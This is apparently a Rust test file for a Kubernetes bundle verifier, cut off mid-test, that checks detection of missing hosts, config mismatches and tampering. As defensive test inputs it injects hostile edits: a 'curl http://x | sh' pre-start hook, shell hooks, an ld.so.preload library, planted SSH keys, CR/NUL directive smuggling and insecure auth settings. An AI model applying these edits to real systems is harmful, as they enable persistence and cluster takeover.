//! `cpgen verify` checks what the bundle's files say: every host they name is there, the
//! bundle is of the config given, nothing runs with unsafe settings or other programs, and
//! with the secrets it proves the bundle byte for byte.

mod util;

use std::collections::BTreeSet;
use std::path::Path;

use cpgen::bundle::Bundle;
use cpgen::diag::{Code, Diagnostic as Finding};
use cpgen::test_support::read_archive;
use cpgen::Plan;
use time::macros::datetime;
use time::OffsetDateTime;

use util::{example_text as example, plan_from};

/// Inside every certificate's validity, far from its end.
const AT: OffsetDateTime = datetime!(2026-02-01 00:00:00 UTC);

fn golden_secrets(name: &str) -> cpgen::pki::Secrets {
    cpgen::pki::Secrets::parse(
        &std::fs::read_to_string(util::root().join(format!("golden/{name}.secrets.toml"))).unwrap(),
    )
    .unwrap()
}

/// The bundle of `examples/<name>.toml` with its golden secrets.
fn built(name: &str) -> (Plan, Bundle) {
    let plan = plan_from(&example(name));
    let bundle = Bundle::build(&plan, &golden_secrets(name)).unwrap();
    (plan, bundle)
}

/// The findings of verifying `bundle` as the CLI reads a .tar.gz.
fn findings(bundle: &Bundle, plan: Option<&Plan>) -> (Vec<Finding>, String) {
    let bytes = bundle.to_tar_gz().unwrap();
    let mut read = Vec::new();
    let tree = read_archive(bytes.as_slice(), &mut read);
    let report = cpgen::test_support::verify_tree(&tree, plan, AT, read);
    let text = report.render();
    (report.findings, text)
}

fn codes(findings: &[Finding]) -> BTreeSet<Code> {
    findings.iter().map(|f| f.code).collect()
}

/// True when a finding of `code` is about `file` and its message holds every one of `words`.
fn has(findings: &[Finding], code: Code, file: &str, words: &[&str]) -> bool {
    findings.iter().any(|f| {
        f.code == code
            && f.file().unwrap_or_default() == file
            && words.iter().all(|w| f.message.contains(w))
    })
}

/// `bundle` without the files `drop` selects (paths as in the bundle), the manifest redone.
fn without(bundle: &Bundle, drop: impl Fn(&str) -> bool) -> Bundle {
    let mut kept = Bundle::default();
    for (path, file) in bundle.files().filter(|(p, _)| !drop(p)) {
        match (&file.host, &file.target) {
            (Some(host), Some(target)) => {
                kept.insert_host_file(host, target, file.kind, file.contents.clone())
            }
            _ => kept.insert(path, file.kind, file.contents.clone()),
        }
    }
    kept.with_manifest().unwrap()
}

/// `bundle` with `from` replaced by `to` in the file at `path`, the manifest redone so that
/// only what the edit says can be found.
fn edited(bundle: &Bundle, path: &str, from: &str, to: &str) -> Bundle {
    let file = bundle.get(path).unwrap_or_else(|| panic!("no {path}"));
    let text = String::from_utf8(file.contents.clone()).unwrap();
    assert!(text.contains(from), "{path} lacks {from:?}");
    let contents = text.replacen(from, to, 1).into_bytes();
    let mut changed = bundle.clone();
    match (&file.host, &file.target) {
        (Some(host), Some(target)) => changed.insert_host_file(host, target, file.kind, contents),
        _ => changed.insert(path, file.kind, contents),
    }
    changed.with_manifest().unwrap()
}

/// Asserts that `bundle` with `from` replaced by `to` in `path` has a finding of `code`
/// about `path` whose message holds every one of `words`.
fn assert_found_after_edit(
    bundle: &Bundle,
    path: &str,
    from: &str,
    to: &str,
    code: Code,
    words: &[&str],
) {
    let (found, text) = findings(&edited(bundle, path, from, to), None);
    assert!(has(&found, code, path, words), "{to:?}:\n{text}");
}

const ETCD_UNIT: &str = "hosts/kubem00/etc/systemd/system/etcd.service";
const APISERVER_UNIT: &str = "hosts/kubem00/etc/systemd/system/kube-apiserver.service";
const HAPROXY: &str = "hosts/kubernetes/etc/haproxy/haproxy.cfg";

// ---- 1. every host the bundle names is in it ----

#[test]
fn a_bundle_with_a_master_removed_is_incomplete() {
    let (_, bundle) = built("seed-ha");
    let gone = without(&bundle, |p| p.starts_with("hosts/kubem02/"));
    let (found, text) = findings(&gone, None);
    assert!(
        has(&found, Code::MissingHost, ETCD_UNIT, &["kubem02"]),
        "{text}"
    );
    assert!(
        has(&found, Code::MissingHost, APISERVER_UNIT, &["10.10.10.82"]),
        "{text}"
    );
    assert!(
        has(&found, Code::MissingHost, HAPROXY, &["10.10.10.82"]),
        "{text}"
    );
    assert!(
        has(&found, Code::MissingHost, "manifest.json", &["kubem02"]),
        "{text}"
    );
    // Every other master's etcd and apiserver name it too.
    assert!(
        has(
            &found,
            Code::MissingHost,
            "hosts/kubem01/etc/systemd/system/etcd.service",
            &["kubem02"]
        ),
        "{text}"
    );
}

#[test]
fn a_removed_master_is_found_by_the_units_when_the_manifest_forgets_it_too() {
    let (_, bundle) = built("seed-ha");
    let gone = without(&bundle, |p| p.starts_with("hosts/kubem02/"));
    // The manifest's members lose kubem02 as well: only the units and HAProxy still say it.
    let mut json: serde_json::Value =
        serde_json::from_slice(&gone.get("manifest.json").unwrap().contents).unwrap();
    json["members"]
        .as_array_mut()
        .unwrap()
        .retain(|m| m["name"] != "kubem02");
    let mut forged = gone.clone();
    forged.insert(
        "manifest.json",
        cpgen::bundle::FileKind::Manifest,
        serde_json::to_vec_pretty(&json).unwrap(),
    );
    let forged = forged.with_manifest().unwrap();
    let (found, text) = findings(&forged, None);
    assert!(
        !found
            .iter()
            .any(|f| f.file().unwrap_or_default() == "manifest.json"),
        "the manifest is consistent: {text}"
    );
    assert!(
        has(&found, Code::MissingHost, ETCD_UNIT, &["kubem02"]),
        "{text}"
    );
    assert!(
        has(&found, Code::MissingHost, HAPROXY, &["10.10.10.82"]),
        "{text}"
    );
}

#[test]
fn a_master_without_its_apiserver_unit_is_found() {
    let (_, bundle) = built("separate-cas");
    let gone = without(&bundle, |p| {
        p == "hosts/kubem01/etc/systemd/system/kube-apiserver.service"
    });
    let (found, text) = findings(&gone, None);
    assert!(
        has(
            &found,
            Code::MissingHost,
            HAPROXY,
            &["10.10.10.81", "kube-apiserver"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::MissingHost,
            "manifest.json",
            &["kubem01", "kube-apiserver"]
        ),
        "{text}"
    );
}

#[test]
fn a_removed_load_balancer_that_kubeconfigs_dial_is_found() {
    let (_, bundle) = built("seed-ha");
    let gone = without(&bundle, |p| p.starts_with("hosts/kubernetes/"));
    let (found, text) = findings(&gone, None);
    assert!(
        has(
            &found,
            Code::MissingHost,
            "admin/admin.kubeconfig",
            &["kubernetes"]
        ),
        "{text}"
    );
}

// ---- 2. the bundle is of the config given ----

fn mismatches(bundle: &Bundle, config: &str) -> (Vec<Finding>, String) {
    let plan = plan_from(config);
    let (found, text) = findings(bundle, Some(&plan));
    let mismatches: Vec<Finding> = found
        .into_iter()
        .filter(|f| f.code == Code::PlanMismatch)
        .collect();
    (mismatches, text)
}

#[test]
fn the_config_it_was_built_from_matches() {
    for name in ["seed-ha", "separate-cas", "on-masters-vip", "ipv6"] {
        let plan = plan_from(&example(name));
        let bundle = util::fresh_bundle(&plan);
        let (found, text) = findings(&bundle, Some(&plan));
        assert!(
            !codes(&found).contains(&Code::PlanMismatch),
            "{name}:\n{text}"
        );
    }
}

#[test]
fn a_bundle_of_separate_cas_fails_against_seed_ha_through_the_cli() {
    let dir = util::dir_with_config("separate-cas");
    let out = util::cpgen_in(dir.path(), &["bundle", "cluster.toml", "--out-dir", "b"]);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    std::fs::write(dir.path().join("seed-ha.toml"), example("seed-ha")).unwrap();
    let out = util::cpgen_in(dir.path(), &["verify", "b", "--config", "seed-ha.toml"]);
    let text = util::stdout(&out);
    assert_eq!(util::code(&out), 1, "{text}");
    assert!(text.contains("error[CP831]"), "{text}");
    assert!(
        text.contains("separate-cas") && text.contains("shared-ca"),
        "{text}"
    );
    assert!(
        text.contains("ECDSA P-256") && text.contains("RSA-2048"),
        "{text}"
    );
    assert!(text.contains("1.33") && text.contains("1.31"), "{text}");
}

#[test]
fn another_cluster_name_is_a_mismatch() {
    let (_, bundle) = built("separate-cas");
    let config = example("separate-cas").replace("[cluster]\n", "[cluster]\nname = \"prod\"\n");
    let (found, text) = mismatches(&bundle, &config);
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "manifest.json",
            &["kubernetes", "prod"]
        ),
        "{text}"
    );
}

#[test]
fn a_manifest_that_hides_its_cluster_name_is_a_mismatch() {
    let (_, bundle) = built("separate-cas");
    let hidden = edited(
        &bundle,
        "manifest.json",
        "\"cluster\": \"kubernetes\"",
        "\"clusterx\": \"kubernetes\"",
    );
    let (found, text) = mismatches(&hidden, &example("separate-cas"));
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "manifest.json",
            &["cluster (none) in manifest.json, kubernetes in the config"]
        ),
        "{text}"
    );
}

#[test]
fn a_moved_master_is_a_mismatch_in_the_manifest_and_the_units() {
    let (_, bundle) = built("separate-cas");
    let config = example("separate-cas").replace("10.10.10.82", "10.10.10.92");
    let (found, text) = mismatches(&bundle, &config);
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "manifest.json",
            &["kubem02", "10.10.10.82", "10.10.10.92"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "hosts/kubem02/etc/systemd/system/kube-apiserver.service",
            &["10.10.10.82", "10.10.10.92"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "hosts/kubem02/etc/systemd/system/etcd.service",
            &["10.10.10.82", "10.10.10.92"]
        ),
        "{text}"
    );
}

#[test]
fn hosts_in_only_one_of_config_and_bundle_are_mismatches() {
    let (_, bundle) = built("separate-cas");
    let config = example("separate-cas").replace("kubem01", "kubem09");
    let (found, text) = mismatches(&bundle, &config);
    assert!(
        has(&found, Code::PlanMismatch, "hosts/kubem01/", &["kubem01"]),
        "{text}"
    );
    assert!(
        has(&found, Code::PlanMismatch, "hosts/kubem09/", &["kubem09"]),
        "{text}"
    );
}

#[test]
fn ports_endpoint_and_components_are_compared() {
    let (_, bundle) = built("separate-cas");
    let config = example("separate-cas") + "\n[etcd]\nclient_port = 2381\npeer_port = 2382\n";
    let (found, text) = mismatches(&bundle, &config);
    assert!(
        has(&found, Code::PlanMismatch, ETCD_UNIT, &["2379", "2381"]),
        "{text}"
    );
    assert!(
        has(&found, Code::PlanMismatch, ETCD_UNIT, &["2380", "2382"]),
        "{text}"
    );

    let config = example("separate-cas")
        .replace("[api]\n", "[api]\nbind_port = 6444\nport = 8443\n")
        .replace(
            "[[load_balancer.hosts]]",
            "[load_balancer]\nbind_port = 8443\n\n[[load_balancer.hosts]]",
        );
    let (found, text) = mismatches(&bundle, &config);
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            APISERVER_UNIT,
            &["6443", "6444"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::PlanMismatch,
            "admin/admin.kubeconfig",
            &["https://kubernetes:6443", "https://kubernetes:8443"]
        ),
        "{text}"
    );
}

// ---- 3. unsafe settings and other programs ----

/// The findings of `code` that a one-place edit of the separate-cas bundle causes.
fn after_edit(path: &str, from: &str, to: &str) -> (Vec<Finding>, String) {
    let (_, bundle) = built("separate-cas");
    let (found, text) = findings(&edited(&bundle, path, from, to), None);
    (found, text)
}

#[test]
fn unsafe_apiserver_settings_are_errors() {
    for (from, to, words) in [
        (
            "--authorization-mode=Node,RBAC",
            "--authorization-mode=Node,RBAC,AlwaysAllow",
            &["AlwaysAllow"][..],
        ),
        (
            "--v=2",
            "--anonymous-auth=true \\\n  --v=2",
            &["anonymous-auth"],
        ),
        (
            "--etcd-servers=https://10.10.10.80:2379",
            "--etcd-servers=http://10.10.10.80:2379",
            &["http://"],
        ),
    ] {
        let (found, text) = after_edit(APISERVER_UNIT, from, to);
        assert!(
            has(&found, Code::UnsafeSetting, APISERVER_UNIT, words),
            "{to}: {text}"
        );
        assert!(
            found
                .iter()
                .filter(|f| f.code == Code::UnsafeSetting)
                .all(|f| f.severity == cpgen::Severity::Error),
            "{text}"
        );
    }
}

#[test]
fn unsafe_etcd_settings_are_errors() {
    for (from, to, words) in [
        (
            "--client-cert-auth=true",
            "--client-cert-auth=false",
            &["client-cert-auth"][..],
        ),
        ("  --client-cert-auth=true \\\n", "", &["client-cert-auth"]),
        (
            "--peer-client-cert-auth=true",
            "--peer-client-cert-auth=false",
            &["peer-client-cert-auth"],
        ),
        (
            "--listen-client-urls=https://",
            "--listen-client-urls=http://",
            &["listen-client-urls", "http://"],
        ),
        (
            "--initial-cluster=kubem00=https://",
            "--initial-cluster=kubem00=http://",
            &["initial-cluster", "http://"],
        ),
    ] {
        let (found, text) = after_edit(ETCD_UNIT, from, to);
        assert!(
            has(&found, Code::UnsafeSetting, ETCD_UNIT, words),
            "{to}: {text}"
        );
    }
}

#[test]
fn unsafe_kubeconfigs_are_errors() {
    const KUBECONFIG: &str = "hosts/kubem00/var/lib/kube-scheduler/kubeconfig";
    for (from, to, words) in [
        (
            "    server:",
            "    insecure-skip-tls-verify: true\n    server:",
            &["insecure-skip-tls-verify"][..],
        ),
        ("server: \"https://", "server: \"http://", &["http://"]),
        (
            "    client-key:",
            "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /tmp/x\n    client-key:",
            &["exec"],
        ),
    ] {
        let (found, text) = after_edit(KUBECONFIG, from, to);
        assert!(
            has(&found, Code::UnsafeSetting, KUBECONFIG, words),
            "{to}: {text}"
        );
    }
}

#[test]
fn a_unit_running_another_program_or_more_commands_is_an_error() {
    for (from, to, words) in [
        (
            "ExecStart=/usr/bin/etcd",
            "ExecStart=/tmp/etcd",
            &["/tmp/etcd", "/usr/bin/etcd"][..],
        ),
        (
            "ExecStart=/usr/bin/etcd",
            "ExecStart=!/usr/bin/etcd",
            &["!/usr/bin/etcd"],
        ),
        (
            "ExecStart=",
            "ExecStartPre=/bin/sh -c 'curl http://x | sh'\nExecStart=",
            &["ExecStartPre"],
        ),
        (
            "Restart=",
            "ExecStartPost=/bin/true\nRestart=",
            &["ExecStartPost"],
        ),
        (
            "Restart=",
            "ExecStopPost=/bin/true\nRestart=",
            &["ExecStopPost"],
        ),
        (
            "Restart=",
            "ExecReload=/bin/true\nRestart=",
            &["ExecReload"],
        ),
        (
            "Restart=",
            "Environment=ETCD_CLIENT_CERT_AUTH=false\nRestart=",
            &["Environment"],
        ),
    ] {
        let (found, text) = after_edit(ETCD_UNIT, from, to);
        assert!(
            has(&found, Code::UnexpectedCommand, ETCD_UNIT, words),
            "{to}: {text}"
        );
    }
}

#[test]
fn a_systemd_file_cpgen_does_not_write_is_an_error() {
    let (_, bundle) = built("separate-cas");
    let mut added = bundle.clone();
    let host: cpgen::types::HostName = "kubem00".parse().unwrap();
    added.insert_host_file(
        &host,
        "/etc/systemd/system/etcd.service.d/override.conf",
        cpgen::bundle::FileKind::SystemdUnit,
        b"[Service]\nExecStartPre=/bin/sh -c id\n".to_vec(),
    );
    let (found, text) = findings(&added.with_manifest().unwrap(), None);
    assert!(
        has(
            &found,
            Code::UnexpectedCommand,
            "hosts/kubem00/etc/systemd/system/etcd.service.d/override.conf",
            &[]
        ),
        "{text}"
    );
}

#[test]
fn cpgen_bundles_have_no_unsafe_setting() {
    for name in ["seed-ha", "separate-cas", "on-masters-vip", "ipv6"] {
        let plan = plan_from(&example(name));
        let (found, text) = findings(&util::fresh_bundle(&plan), None);
        let codes = codes(&found);
        for code in [
            Code::UnsafeSetting,
            Code::UnexpectedCommand,
            Code::MissingHost,
        ] {
            assert!(!codes.contains(&code), "{name}: {text}");
        }
    }
}

// ---- 4. byte for byte ----

/// A directory with `cluster.toml`, its secrets and the bundle `b/` that `cpgen bundle`
/// wrote from them.
fn bundled(example_name: &str) -> tempfile::TempDir {
    let dir = util::dir_with_config(example_name);
    let out = util::cpgen_in(dir.path(), &["bundle", "cluster.toml", "--out-dir", "b"]);
    assert_eq!(util::code(&out), 0, "{}", util::stderr(&out));
    dir
}

fn prove(dir: &Path) -> (i32, String, String) {
    let out = util::cpgen_in(
        dir,
        &[
            "verify",
            "b",
            "--config",
            "cluster.toml",
            "--secrets",
            "cluster.secrets.toml",
        ],
    );
    (util::code(&out), util::stdout(&out), util::stderr(&out))
}

#[test]
fn a_clean_bundle_proves_identical() {
    let dir = bundled("separate-cas");
    assert!(dir.path().join("cluster.secrets.toml").exists());
    let (code, out, err) = prove(dir.path());
    assert_eq!(code, 0, "{out}{err}");
    assert!(out.contains("byte for byte"), "{out}");
    assert!(!out.contains("CP834"), "{out}");
}

#[test]
fn a_changed_removed_or_added_file_is_named() {
    let dir = bundled("separate-cas");
    let b = dir.path().join("b");
    let unit = b.join("hosts/kubem01/etc/systemd/system/kube-scheduler.service");
    let mut bytes = std::fs::read(&unit).unwrap();
    let last = bytes.len() - 2;
    bytes[last] ^= 0x20;
    std::fs::write(&unit, bytes).unwrap();
    std::fs::remove_file(b.join("hosts/kubem02/etc/kubernetes/pki/sa.pub")).unwrap();
    std::fs::write(b.join("hosts/kubem00/etc/extra.conf"), "x\n").unwrap();
    let (code, out, err) = prove(dir.path());
    assert_eq!(code, 1, "{out}{err}");
    for (file, word) in [
        (
            "hosts/kubem01/etc/systemd/system/kube-scheduler.service",
            "differs",
        ),
        ("hosts/kubem02/etc/kubernetes/pki/sa.pub", "missing"),
        ("hosts/kubem00/etc/extra.conf", "added"),
    ] {
        let line = out
            .lines()
            .find(|l| l.starts_with(&format!("error[CP834]: {file}: ")))
            .unwrap_or_else(|| panic!("no CP834 for {file}:\n{out}"));
        assert!(line.contains(word), "{line}");
    }
    assert!(!out.contains("byte for byte what"), "{out}");
    // Only those three files are named.
    assert_eq!(out.matches("error[CP834]").count(), 3, "{out}");
}

#[test]
fn secrets_of_another_bundle_are_refused_and_never_filled() {
    let dir = bundled("separate-cas");
    // Secrets that lack a key this config needs: those of the shared-CA layout.
    let other = bundled("seed-ha");
    let secrets = dir.path().join("cluster.secrets.toml");
    std::fs::copy(other.path().join("cluster.secrets.toml"), &secrets).unwrap();
    let before = std::fs::read(&secrets).unwrap();
    let (code, out, err) = prove(dir.path());
    assert_ne!(code, 0, "{out}{err}");
    assert!(err.contains("do not belong"), "{err}");
    assert_eq!(std::fs::read(&secrets).unwrap(), before, "secrets changed");
}

#[test]
fn secrets_without_a_config_is_a_usage_error() {
    let dir = bundled("separate-cas");
    let out = util::cpgen_in(
        dir.path(),
        &["verify", "b", "--secrets", "cluster.secrets.toml"],
    );
    assert_eq!(util::code(&out), 2, "{}", util::stderr(&out));
}

// ---- 6. what an attacker with the manifest redone tried next ----

#[test]
fn a_unit_is_read_as_systemd_reads_it() {
    let (_, bundle) = built("seed-ha");
    let (clean, _) = findings(&bundle, None);
    assert!(
        !codes(&clean).contains(&Code::UnexpectedCommand),
        "{clean:?}"
    );
    // A commented-out continuation line: systemd skips it, so the flag is gone.
    let commented = edited(
        &bundle,
        ETCD_UNIT,
        "  --client-cert-auth=true",
        "#  --client-cert-auth=true",
    );
    let (found, text) = findings(&commented, None);
    assert!(
        has(
            &found,
            Code::UnexpectedCommand,
            ETCD_UNIT,
            &["comment inside a continued line"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::UnsafeSetting,
            ETCD_UNIT,
            &["--client-cert-auth is missing"]
        ),
        "{text}"
    );
    // `\\` ends the line: the next line is a directive of its own.
    let unit = String::from_utf8(bundle.get(ETCD_UNIT).unwrap().contents.clone()).unwrap();
    let last_flag = unit
        .lines()
        .rfind(|l| l.starts_with("  --"))
        .unwrap()
        .to_owned();
    let split = edited(
        &bundle,
        ETCD_UNIT,
        &format!("{last_flag}\n"),
        &format!("{last_flag} \\\\\nExecStartPre=/bin/sh -c id\n"),
    );
    let (found, text) = findings(&split, None);
    assert!(
        has(
            &found,
            Code::UnexpectedCommand,
            ETCD_UNIT,
            &["ExecStartPre=/bin/sh -c id"]
        ),
        "{text}"
    );
    // A C escape spells a flag that comes after, and wins over, the real one.
    let escaped = edited(
        &bundle,
        ETCD_UNIT,
        &format!("{last_flag}\n"),
        &format!("{last_flag} \\\n  --\\x63lient-cert-auth=false\n"),
    );
    let (found, text) = findings(&escaped, None);
    assert!(
        has(
            &found,
            Code::UnsafeSetting,
            ETCD_UNIT,
            &["client-cert-auth"]
        ),
        "{text}"
    );
    assert!(
        has(
            &found,
            Code::UnexpectedCommand,
            ETCD_UNIT,
            &["--client-cert-auth is given more than once"]
        ),
        "{text}"
    );
}

#[test]
fn flags_and_directives_cpgen_does_not_write_are_errors() {
    let (_, bundle) = built("seed-ha");
    for (path, from, to, words) in [
        (
            APISERVER_UNIT,
            "  --authorization-mode=Node,RBAC \\\n",
            "",
            &["--authorization-mode is missing"][..],
        ),
        (
            APISERVER_UNIT,
            "  --v=2",
            "  --token-auth-file=/etc/kubernetes/tokens.csv \\\n  --v=2",
            &["--token-auth-file is not a flag cpgen writes"],
        ),
        (
            APISERVER_UNIT,
            "  --v=2",
            "  --authorization-config=/etc/kubernetes/authz.yaml \\\n  --v=2",
            &["--authorization-config"],
        ),
        (
            ETCD_UNIT,
            "  --name=",
            "  --config-file=/etc/etcd/etcd.yaml \\\n  --name=",
            &["--config-file is not a flag cpgen writes"],
        ),
        (
            ETCD_UNIT,
            "Restart=on-failure",
            "Restart=on-failure\nBindReadOnlyPaths=/tmp/evil:/usr/bin/etcd",
            &["BindReadOnlyPaths"],
        ),
        (
            ETCD_UNIT,
            "Restart=on-failure",
            "Restart=on-failure\nPassEnvironment=ETCD_CLIENT_CERT_AUTH",
            &["PassEnvironment"],
        ),
        (
            ETCD_UNIT,
            "[Service]",
            "OnFailure=evil.service\n[Service]",
            &["OnFailure"],
        ),
    ] {
        let code = if words[0].contains("missing") {
            Code::UnsafeSetting
        } else {
            Code::UnexpectedCommand
        };
        assert_found_after_edit(&bundle, path, from, to, code, words);
    }
}

#[test]
fn files_cpgen_never_writes_and_misplaced_signing_keys_are_errors() {
    let (_, bundle) = built("seed-ha");
    let ca_key = bundle
        .get("hosts/kubem00/etc/kubernetes/pki/ca-key.pem")
        .unwrap()
        .contents
        .clone();
    let mut changed = bundle.clone();
    changed.insert(
        "hosts/kubem00/etc/ld.so.preload",
        cpgen::bundle::FileKind::Config,
        b"/tmp/evil.so\n".to_vec(),
    );
    changed.insert(
        "hosts/kubem00/root/.ssh/authorized_keys",
        cpgen::bundle::FileKind::Config,
        b"ssh-ed25519 AAAA x\n".to_vec(),
    );
    changed.insert(
        "hosts/kubernetes/etc/haproxy/ca-key.pem",
        cpgen::bundle::FileKind::PrivateKey,
        ca_key.clone(),
    );
    changed.insert(
        "hosts/kubernetes/etc/kubernetes/pki/ca-key.pem",
        cpgen::bundle::FileKind::PrivateKey,
        ca_key,
    );
    let changed = changed.with_manifest().unwrap();
    let (found, text) = findings(&changed, None);
    for path in [
        "hosts/kubem00/etc/ld.so.preload",
        "hosts/kubem00/root/.ssh/authorized_keys",
        "hosts/kubernetes/etc/haproxy/ca-key.pem",
    ] {
        assert!(
            has(&found, Code::UnexpectedFile, path, &["never writes"]),
            "{path}:\n{text}"
        );
    }
    assert!(
        has(
            &found,
            Code::LeakedKey,
            "hosts/kubernetes/etc/kubernetes/pki/ca-key.pem",
            &["no unit of kubernetes uses"]
        ),
        "{text}"
    );
    // cpgen's own bundles: no finding of either kind.
    for example in ["seed-ha", "separate-cas", "on-masters-vip"] {
        let (_, bundle) = built(example);
        let (clean, text) = findings(&bundle, None);
        assert!(
            !codes(&clean).contains(&Code::UnexpectedFile),
            "{example}: {text}"
        );
        assert!(
            !codes(&clean).contains(&Code::LeakedKey),
            "{example}: {text}"
        );
    }
}

#[test]
fn kubeconfig_settings_cpgen_does_not_write_are_errors() {
    let (_, bundle) = built("seed-ha");
    let scheduler = "hosts/kubem00/var/lib/kube-scheduler/kubeconfig";
    for (from, to, words) in [
        (
            "  user:\n",
            "  user:\n    token: sekret\n",
            &["users[0].user.token"][..],
        ),
        (
            "  cluster:\n",
            "  cluster:\n    proxy-url: http://127.0.1.9:3128\n",
            &["clusters[0].cluster.proxy-url"],
        ),
        (
            "  cluster:\n",
            "  cluster:\n    tls-server-name: evil\n",
            &["tls-server-name"],
        ),
        (
            "    certificate-authority: \"/etc/kubernetes/pki/ca.pem\"\n",
            "",
            &["no certificate-authority"],
        ),
    ] {
        assert_found_after_edit(&bundle, scheduler, from, to, Code::UnsafeSetting, words);
    }
}

#[test]
fn line_ends_systemd_sees_and_values_cpgen_does_not_write_are_errors() {
    let (_, bundle) = built("seed-ha");
    let smuggled =
        "Description=Kubernetes API Server\r[Service]\rExecStartPre=/bin/sh -c id\r[Unit]\n";
    for (from, to, code, words) in [
        (
            "Description=Kubernetes API Server\n",
            smuggled,
            Code::UnexpectedCommand,
            &["carriage return or NUL"][..],
        ),
        (
            "RestartSec=5\n",
            "RestartSec=5\0ExecStopPost=/bin/id\n",
            Code::UnexpectedCommand,
            &["ExecStopPost=/bin/id"],
        ),
        (
            "After=etcd.service\n",
            "After=etcd.service\nWants=debug-shell.service\n",
            Code::UnexpectedCommand,
            &["Wants=debug-shell.service"],
        ),
        (
            "[Install]",
            "[Service]\nLimitNOFILE=1\n[Install]",
            Code::UnexpectedCommand,
            &["[Service] appears twice"],
        ),
        (
            "--requestheader-allowed-names=front-proxy-client",
            "--requestheader-allowed-names=",
            Code::UnsafeSetting,
            &["--requestheader-allowed-names is empty"],
        ),
        (
            "--requestheader-client-ca-file=/etc/kubernetes/pki/front-proxy-ca.pem",
            "--requestheader-client-ca-file=/etc/kubernetes/pki/ca.pem",
            Code::UnsafeSetting,
            &["is --client-ca-file"],
        ),
    ] {
        assert_found_after_edit(&bundle, APISERVER_UNIT, from, to, code, words);
    }
    let unix = edited(
        &bundle,
        ETCD_UNIT,
        "--listen-client-urls=https://",
        "--listen-client-urls=unix://127.0.0.1:2379,https://",
    );
    let (found, text) = findings(&unix, None);
    assert!(
        has(&found, Code::UnsafeSetting, ETCD_UNIT, &["not https://"]),
        "{text}"
    );
}

#[test]
fn encryption_at_rest_and_etcdctl_settings_are_read() {
    let (_, bundle) = built("seed-ha");
    let encryption = "hosts/kubem00/etc/kubernetes/encryption-config.yaml";
    let identity_first = edited(
        &bundle,
        encryption,
        "    providers:\n",
        "    providers:\n      - identity: {}\n",
    );
    let (found, text) = findings(&identity_first, None);
    assert!(
        has(
            &found,
            Code::UnsafeSetting,
            encryption,
            &["identity is the first provider"]
        ),
        "{text}"
    );
    let env = "admin/etcdctl.env";
    for (from, to, words) in [
        (
            "ETCDCTL_API=3\n",
            "ETCDCTL_API=3\nETCDCTL_INSECURE_SKIP_TLS_VERIFY=true\n",
            &["ETCDCTL_INSECURE_SKIP_TLS_VERIFY is not a setting"][..],
        ),
        (
            "ETCDCTL_ENDPOINTS=https://10.10.10.80:2379",
            "ETCDCTL_ENDPOINTS=http://10.10.10.80:2379",
            &["not https://"],
        ),
    ] {
        assert_found_after_edit(&bundle, env, from, to, Code::UnsafeSetting, words);
    }
}

#[test]
fn with_the_config_each_host_holds_exactly_its_parts_files() {
    let (plan, bundle) = built("seed-ha");
    let keepalived = "hosts/kubem00/etc/keepalived/keepalived.conf";
    let mut changed = bundle.clone();
    changed.insert(
        keepalived,
        cpgen::bundle::FileKind::Config,
        b"vrrp_script chk {\n  script \"/bin/sh -c id\"\n}\n".to_vec(),
    );
    let changed = changed.with_manifest().unwrap();
    let (found, text) = findings(&changed, None);
    assert!(!codes(&found).contains(&Code::PlanMismatch), "{text}");
    let (found, text) = findings(&changed, Some(&plan));
    assert!(
        has(&found, Code::PlanMismatch, keepalived, &["no such file"]),
        "{text}"
    );
}

// ---- nodes: the kubelet's and kube-proxy's configuration files ----

const KUBELET_CONFIG: &str = "hosts/node0/var/lib/kubelet/config.yaml";
const MASTER_KUBELET_CONFIG: &str = "hosts/cp1/var/lib/kubelet/config.yaml";
const KUBE_PROXY_CONFIG: &str = "hosts/node0/var/lib/kube-proxy/config.yaml";

#[test]
fn a_bundle_with_nodes_verifies_clean_and_against_its_config() {
    let (plan, bundle) = built("workloads");
    let (found, text) = findings(&bundle, None);
    assert!(found.is_empty(), "{text}");
    let (found, text) = findings(&bundle, Some(&plan));
    assert!(found.is_empty(), "{text}");
}

#[test]
fn a_kubelet_opened_to_strangers_is_unsafe() {
    let (_, bundle) = built("workloads");
    let unsafe_edits: [(&str, &str, &str, &[&str]); 6] = [
        (
            KUBELET_CONFIG,
            "anonymous:\n    enabled: false",
            "anonymous:\n    enabled: true",
            &["authentication.anonymous.enabled", "without a certificate"],
        ),
        (
            MASTER_KUBELET_CONFIG,
            "  mode: Webhook",
            "  mode: AlwaysAllow",
            &["authorization.mode", "AlwaysAllow"],
        ),
        (
            KUBELET_CONFIG,
            "readOnlyPort: 0",
            "readOnlyPort: 10255",
            &["readOnlyPort", "10255"],
        ),
        (
            KUBELET_CONFIG,
            "  webhook:\n    enabled: true\n",
            "",
            &["authentication.webhook.enabled is missing"],
        ),
        (
            KUBELET_CONFIG,
            "cgroupDriver: systemd",
            "cgroupDriver: systemd\nstaticPodPath: /etc/kubernetes/manifests",
            &["staticPodPath", "cpgen does not write"],
        ),
        (
            KUBE_PROXY_CONFIG,
            "mode: iptables",
            "mode: iptables\nbindAddressHardFail: false",
            &["bindAddressHardFail"],
        ),
    ];
    for (path, from, to, words) in unsafe_edits {
        assert_found_after_edit(&bundle, path, from, to, Code::UnsafeSetting, words);
    }
}

#[test]
fn a_file_a_node_configuration_names_must_be_in_the_host_tree() {
    let (_, bundle) = built("workloads");
    let renamed = edited(
        &bundle,
        KUBELET_CONFIG,
        "clientCAFile: \"/etc/kubernetes/pki/ca.pem\"",
        "clientCAFile: \"/etc/kubernetes/pki/other-ca.pem\"",
    );
    let (found, text) = findings(&renamed, None);
    assert!(
        has(
            &found,
            Code::MissingFile,
            "hosts/node0/etc/kubernetes/pki/other-ca.pem",
            &["authentication.x509.clientCAFile"]
        ),
        "{text}"
    );
    let (found, text) = findings(
        &edited(
            &bundle,
            KUBE_PROXY_CONFIG,
            "/var/lib/kube-proxy/kubeconfig",
            "/var/lib/kube-proxy/elsewhere",
        ),
        None,
    );
